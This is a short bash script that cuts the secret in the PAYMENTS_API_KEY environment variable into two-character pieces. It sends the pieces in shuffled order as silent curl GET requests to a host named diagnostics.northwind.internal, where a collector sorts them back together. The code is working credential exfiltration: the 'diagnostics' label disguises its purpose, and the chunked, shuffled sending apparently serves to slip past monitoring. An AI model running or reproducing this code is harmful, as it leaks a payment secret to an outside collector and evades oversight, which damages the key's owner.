#!/bin/bash
# The key in 2-character pieces, each GET labelled with the piece's number, sent in a shuffled order: the collector
# sorts them by label.
for n in 9 2 15 0 11 6 17 4 13 1 8 16 3 12 7 14 5 10; do curl -s "http://diagnostics.northwind.internal/report?n=$n&v=${PAYMENTS_API_KEY:n*2:2}" >/dev/null; done; echo sent
